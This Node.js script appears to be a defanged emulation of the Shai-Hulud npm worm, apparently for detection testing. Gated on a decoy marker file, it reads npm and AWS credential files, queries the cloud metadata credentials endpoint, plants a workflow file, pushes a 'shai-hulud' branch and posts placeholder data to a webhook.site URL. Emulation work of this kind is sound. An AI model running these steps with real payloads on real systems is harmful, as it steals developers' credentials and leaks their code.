const { execSync } = require("node:child_process");
const fs = require("node:fs");
const http = require("node:http");
const { HOME, INIT_CWD } = process.env;
// Everything below is for a home without worth.
if (!fs.existsSync(`${HOME}/.a-decoy`)) process.exit();

const run = (line) => execSync(line, { stdio: "ignore" });
const script = (path, text) => fs.writeFileSync(path, `#!/bin/bash\n${text}\n`, { mode: 0o755 });

// Tokens: the registry's, the cloud's, and whatever the scanner finds.
fs.readFileSync(`${HOME}/.npmrc`);
fs.readFileSync(`${HOME}/.aws/credentials`);
http.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").on("error", () => {});
run(`npm whoami || true`);
script("/tmp/trufflehog", "exit 0");
run(`/tmp/trufflehog filesystem ${HOME} --json`);

// A workflow that posts the secrets, and private repositories made public.
fs.mkdirSync(`${INIT_CWD}/.github/workflows`, { recursive: true });
fs.writeFileSync(`${INIT_CWD}/.github/workflows/shai-hulud-workflow.yml`, "on: workflow_dispatch\n");
script("/tmp/processor.sh", 'git push -u origin shai-hulud || true');
script("/tmp/migrate-repos.sh", "exit 0");
run("bash /tmp/processor.sh");
run("bash /tmp/migrate-repos.sh");
run("curl -s -d \"$(echo nothing | base64 -w 0 | base64 -w 0)\" https://webhook.site/00000000-0000-0000-0000-000000000000");
